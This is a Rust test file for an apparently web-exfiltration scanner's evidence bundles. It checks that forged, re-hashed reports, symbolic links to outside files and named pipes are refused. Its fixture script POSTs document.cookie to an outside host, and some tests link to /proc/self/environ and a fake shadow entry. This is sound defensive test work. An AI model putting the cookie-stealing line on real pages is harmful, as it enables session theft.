//! Bundles from a hostile sender: links out of the bundle, named pipes and
//! devices, and lies re-hashed into the manifest so that every hash
//! matches. None may be read through, hang verification, or pass as a
//! report that stands.
#![cfg(unix)]

use std::collections::BTreeMap;
use std::path::Path;

use outflow_bundle::{AnalysisSettings, Bundle, BundleError, FileProblem, Verification};

const SCRIPT: &str =
    "fetch('https://login.cmpassport.com/c', {method: 'POST', body: document.cookie});";

fn intel() -> outflow_intel::Intel {
    outflow_intel::Intel::load(&outflow_intel::IntelOptions::default()).expect("built-in data")
}

/// A bundle of one page capture with one script that sends the cookie
/// away, analysed with attribution as `outflow scan --out` analyses it:
/// its report has findings, attributions, an inventory and flows.
fn analysed_bundle(root: &Path) -> Bundle {
    let bundle = Bundle::create(root, &["a.test".to_string()]).expect("bundle");
    let hash = outflow_bundle::sha256_hex(SCRIPT.as_bytes());
    let capture: outflow_model::Capture = serde_json::from_value(serde_json::json!({
        "target": "https://a.test/",
        "source": { "kind": "browser", "headless": true },
        "started_at": "2026-11-29T05:00:00Z",
        "duration_ms": 1000,
        "frames": [],
        "scripts": [{
            "id": "s1",
            "origin": { "kind": "external", "url": "https://a.test/app.js" },
            "sha256": hash,
            "size": SCRIPT.len(),
        }],
        "requests": [{
            "id": "1",
            "url": "https://collect.test/c",
            "method": "POST",
            "resource_type": "Fetch",
            "headers": [],
            "body": { "text": "sid=1", "base64": false, "size": 5 },
            "initiator": { "kind": "script", "script_id": "s1" },
            "time_ms": 10
        }],
        "canaries": [],
        "errors": []
    }))
    .expect("a capture");
    let sources = BTreeMap::from([(hash, SCRIPT.to_string())]);
    bundle.add_scripts(&sources).expect("scripts");
    let intel = intel();
    let js = outflow_js::Options::default();
    let pipeline = outflow_pipeline::Pipeline {
        js: &js,
        intel: Some(&intel),
        site: None,
        tool_version: "0.1.0",
    };
    let report = outflow_pipeline::report_capture(
        capture.clone(),
        outflow_pipeline::Sources::Map(&sources),
        &pipeline,
    );
    assert!(!report.findings.is_empty(), "the script is found out");
    assert!(!report.attributions.is_empty() && !report.flows.is_empty());
    assert!(!report.inventory.is_empty());
    let settings = AnalysisSettings {
        intel: true,
        ..Default::default()
    };
    bundle
        .add_capture("a.test", &capture, &report, settings, "0.1.0")
        .expect("capture added");
    bundle
}

fn verify(root: &Path) -> Verification {
    outflow_bundle::verify(root, "0.1.0").expect("readable")
}

/// Sets the manifest's hash of every file listed to the file's hash now,
/// as a forger would.
fn rehash(root: &Path) {
    let path = root.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("manifest")).expect("JSON");
    let files = manifest["files"].as_object_mut().expect("files");
    for (name, hash) in files.iter_mut() {
        if let Ok(bytes) = std::fs::read(root.join(name)) {
            *hash = serde_json::json!(outflow_bundle::sha256_hex(&bytes));
        }
    }
    std::fs::write(&path, serde_json::to_vec_pretty(&manifest).expect("JSON")).expect("write");
}

/// Edits report.json as JSON, re-hashed.
fn edit_report(root: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let path = root.join("report.json");
    let mut report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("report")).expect("JSON");
    edit(&mut report);
    std::fs::write(&path, serde_json::to_vec_pretty(&report).expect("JSON")).expect("write");
    rehash(root);
}

/// The verification does not stand, and says `needle`.
fn refuted(verification: &Verification, needle: &str) -> String {
    let text = verification.to_string();
    assert!(!verification.stands(), "{text}");
    assert!(text.contains(needle), "{needle:?} not in:\n{text}");
    text
}

#[test]
fn an_untouched_bundle_stands_and_every_file_is_vouched_for() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let verification = verify(dir.path());
    assert!(verification.stands(), "{verification}");
    rehash(dir.path());
    assert!(
        verify(dir.path()).stands(),
        "re-hashing alone changes nothing"
    );
}

#[test]
fn a_rehashed_html_report_saying_nothing_found_is_refuted() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    std::fs::write(
        dir.path().join("report.html"),
        "<!DOCTYPE html><p>nothing found</p>",
    )
    .expect("write");
    rehash(dir.path());
    let verification = verify(dir.path());
    assert!(verification.file_problems.is_empty(), "hashes agree");
    let text = refuted(
        &verification,
        "report.html is not the report the evidence gives",
    );
    assert!(text.contains("line 1"), "{text}");
}

#[test]
fn sarif_with_its_results_removed_is_refuted() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let path = dir.path().join("report.sarif");
    let mut sarif: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("sarif")).expect("JSON");
    sarif["runs"][0]["results"] = serde_json::json!([]);
    std::fs::write(&path, serde_json::to_vec_pretty(&sarif).expect("JSON")).expect("write");
    rehash(dir.path());
    refuted(
        &verify(dir.path()),
        "report.sarif is not the report the evidence gives (0 result(s), the evidence gives",
    );
}

#[test]
fn a_zeroed_summary_is_refuted() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    edit_report(dir.path(), |report| {
        let summary = &mut report["summary"];
        summary["verdict"] = serde_json::json!("nothing found");
        for count in summary["counts"]
            .as_object_mut()
            .expect("counts")
            .values_mut()
        {
            *count = serde_json::json!(0);
        }
        summary["hosts_contacted"] = serde_json::json!(0);
        summary.as_object_mut().expect("summary").remove("highest");
    });
    let text = refuted(&verify(dir.path()), "report.json: summary");
    assert!(
        text.contains("report.json is not the report the evidence gives"),
        "{text}"
    );
}

#[test]
fn a_changed_target_is_refuted() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    edit_report(dir.path(), |report| {
        report["target"]["value"] = serde_json::json!("https://innocent.example/");
    });
    refuted(&verify(dir.path()), "report.json: target");
}

#[test]
fn removed_attributions_flows_and_inventory_are_each_refuted() {
    for (part, needle) in [
        ("attributions", "report.json: attributions"),
        ("flows", "report.json: flows"),
        ("inventory", "report.json: script inventory"),
    ] {
        let dir = tempfile::tempdir().expect("temp dir");
        analysed_bundle(dir.path());
        edit_report(dir.path(), |report| {
            report.as_object_mut().expect("report").remove(part);
        });
        let text = refuted(&verify(dir.path()), needle);
        assert!(text.contains("stated, the evidence gives"), "{text}");
    }
}

#[test]
fn any_other_edit_of_report_json_is_refuted_by_its_bytes() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let path = dir.path().join("report.json");
    let text = std::fs::read_to_string(&path).expect("report");
    std::fs::write(&path, format!("{text}\n")).expect("write");
    rehash(dir.path());
    refuted(
        &verify(dir.path()),
        "report.json is not the report the evidence gives",
    );
}

#[test]
fn an_unknown_layout_version_is_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let path = dir.path().join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("manifest")).expect("JSON");
    manifest["layout_version"] = serde_json::json!(99);
    std::fs::write(&path, serde_json::to_vec(&manifest).expect("JSON")).expect("write");
    let error = outflow_bundle::verify(dir.path(), "0.1.0").expect_err("refused");
    let text = format!(
        "{error}: {}",
        std::error::Error::source(&error).expect("cause")
    );
    assert!(text.contains("layout version 99"), "{text}");
}

/// A file outside the bundle that must never be read.
fn secret(outside: &Path) -> std::path::PathBuf {
    let path = outside.join("shadow");
    std::fs::write(&path, "root:$6$NEVER-PRINTED$:19000:0:99999:7:::\n").expect("write");
    path
}

/// Points the capture's attribution at `intel/x`, re-hashed.
fn use_intel_folder(root: &Path) {
    let path = root.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("manifest")).expect("JSON");
    manifest["captures"][0]["analysis"]["intel_dirs"] = serde_json::json!(["intel/x"]);
    std::fs::write(&path, serde_json::to_vec(&manifest).expect("JSON")).expect("write");
}

#[test]
fn links_in_intel_are_refused_and_never_read() {
    for target in [
        std::path::PathBuf::from("/proc/self/environ"),
        std::path::PathBuf::new(),
    ] {
        let dir = tempfile::tempdir().expect("temp dir");
        let outside = tempfile::tempdir().expect("temp dir");
        let target = if target.as_os_str().is_empty() {
            secret(outside.path())
        } else {
            target
        };
        analysed_bundle(dir.path());
        std::fs::create_dir_all(dir.path().join("intel/x")).expect("mkdir");
        std::os::unix::fs::symlink(&target, dir.path().join("intel/x/a.toml")).expect("link");
        use_intel_folder(dir.path());
        let verification = verify(dir.path());
        let text = refuted(&verification, "intel/x/a.toml: a symbolic link");
        assert!(text.contains("cannot be loaded"), "{text}");
        assert!(!text.contains("NEVER-PRINTED"), "{text}");
        assert!(
            !text.contains("PATH="),
            "the environment is never read: {text}"
        );
    }
}

#[test]
fn a_linked_intel_folder_is_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    let outside = tempfile::tempdir().expect("temp dir");
    secret(outside.path());
    std::fs::rename(outside.path().join("shadow"), outside.path().join("a.toml")).expect("mv");
    analysed_bundle(dir.path());
    std::fs::create_dir_all(dir.path().join("intel")).expect("mkdir");
    std::os::unix::fs::symlink(outside.path(), dir.path().join("intel/x")).expect("link");
    use_intel_folder(dir.path());
    let text = refuted(&verify(dir.path()), "intel/x: a symbolic link");
    assert!(!text.contains("NEVER-PRINTED"), "{text}");
}

#[test]
fn a_linked_script_is_refused_and_not_analysed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let outside = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    // The same bytes outside: read through the link, the report would stand.
    let copy = outside.path().join("app.js");
    std::fs::write(&copy, SCRIPT).expect("write");
    let name = format!(
        "scripts/{}.js",
        outflow_bundle::sha256_hex(SCRIPT.as_bytes())
    );
    std::fs::remove_file(dir.path().join(&name)).expect("rm");
    std::os::unix::fs::symlink(&copy, dir.path().join(&name)).expect("link");
    let verification = verify(dir.path());
    assert!(verification.file_problems.iter().any(
        |p| matches!(p, FileProblem::Refused(why) if why == &format!("{name}: a symbolic link"))
    ));
    refuted(&verification, "stated, not found in the evidence");
    // Through a linked scripts/ folder neither.
    std::fs::remove_file(dir.path().join(&name)).expect("rm");
    std::fs::remove_dir(dir.path().join("scripts")).expect("rmdir");
    std::fs::rename(
        &copy,
        outside.path().join(name.trim_start_matches("scripts/")),
    )
    .expect("mv");
    std::os::unix::fs::symlink(outside.path(), dir.path().join("scripts")).expect("link");
    let verification = verify(dir.path());
    refuted(&verification, "scripts: a symbolic link");
    assert!(verification.captures[0].findings < 1, "{verification}");
}

fn mkfifo(path: &Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo");
    assert!(status.success());
}

#[test]
fn named_pipes_and_devices_do_not_hang_verification() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let name = format!(
        "scripts/{}.js",
        outflow_bundle::sha256_hex(SCRIPT.as_bytes())
    );
    std::fs::remove_file(dir.path().join(&name)).expect("rm");
    mkfifo(&dir.path().join(&name));
    std::fs::remove_file(dir.path().join("report.html")).expect("rm");
    mkfifo(&dir.path().join("report.html"));
    mkfifo(&dir.path().join("extra"));
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("report.sarif.zero")).expect("link");
    std::fs::remove_file(dir.path().join("report.sarif")).expect("rm");
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("report.sarif")).expect("link");
    let verification = verify(dir.path());
    let text = refuted(&verification, &format!("{name}: a named pipe"));
    assert!(text.contains("report.html: a named pipe"), "{text}");
    assert!(text.contains("extra: a named pipe"), "{text}");
    assert!(text.contains("report.sarif: a symbolic link"), "{text}");
    assert!(text.contains("report.html cannot be read"), "{text}");
}

#[test]
fn out_writes_only_into_a_new_empty_or_same_bundle_folder() {
    let parent = tempfile::tempdir().expect("temp dir");
    let names = ["a.test".to_string()];
    // New.
    let root = parent.path().join("new");
    analysed_bundle(&root);
    // The same captures again: replaced whole.
    std::fs::write(root.join("scripts/0.js"), "stale").expect("write");
    rehash(&root);
    let refused = Bundle::create(&root, &names).expect_err("an unlisted file");
    assert!(
        refused
            .to_string()
            .contains("files that are not part of it (scripts/0.js)"),
        "{refused}"
    );
    std::fs::remove_file(root.join("scripts/0.js")).expect("rm");
    Bundle::create(&root, &names).expect("the same bundle is replaced");
    assert_eq!(
        std::fs::read_dir(&root)
            .expect("listed")
            .map(|e| e.expect("entry").file_name().into_string().expect("name"))
            .collect::<Vec<_>>(),
        ["scripts"],
        "nothing of the old bundle is left"
    );
    assert!(
        std::fs::read_dir(root.join("scripts"))
            .expect("scripts")
            .next()
            .is_none()
    );
    analysed_bundle(&root);
    assert!(verify(&root).stands());
    // A bundle of other captures.
    let other = Bundle::create(&root, &["b.test".to_string()]).expect_err("another target");
    assert!(matches!(other, BundleError::Folder { .. }));
    assert!(
        other.to_string().contains("other captures (a.test)"),
        "{other}"
    );
    // A folder with unrelated files.
    let busy = parent.path().join("busy");
    std::fs::create_dir_all(&busy).expect("mkdir");
    std::fs::write(busy.join("notes.txt"), "mine").expect("write");
    let error = Bundle::create(&busy, &names).expect_err("not empty");
    assert!(
        error
            .to_string()
            .contains("not empty and not an outflow bundle (notes.txt)"),
        "{error}"
    );
    assert_eq!(
        std::fs::read(busy.join("notes.txt")).expect("kept"),
        b"mine"
    );
    // Not a folder.
    let file = parent.path().join("file");
    std::fs::write(&file, "x").expect("write");
    assert!(Bundle::create(&file, &names).is_err());
    // Empty.
    let empty = parent.path().join("empty");
    std::fs::create_dir_all(&empty).expect("mkdir");
    Bundle::create(&empty, &names).expect("empty folder");
}

#[test]
fn bare_captures_are_replaced_by_the_same_run() {
    let parent = tempfile::tempdir().expect("temp dir");
    let root = parent.path().join("bare");
    let names = ["a.test".to_string()];
    let bundle = Bundle::create(&root, &names).expect("bundle");
    let capture: outflow_model::Capture = serde_json::from_value(serde_json::json!({
        "target": "https://a.test/", "source": { "kind": "browser", "headless": true },
        "started_at": "2026-11-29T05:00:00Z", "duration_ms": 1, "frames": [], "scripts": [],
        "requests": [], "canaries": [], "errors": []
    }))
    .expect("capture");
    bundle
        .add_bare_capture("a.test", &capture, &BTreeMap::new())
        .expect("written");
    Bundle::create(&root, &names).expect("replaced");
    assert!(!root.join("a.test.capture.json").exists());
    bundle
        .add_bare_capture("a.test", &capture, &BTreeMap::new())
        .expect("written");
    assert!(Bundle::create(&root, &["b.test".to_string()]).is_err());
}
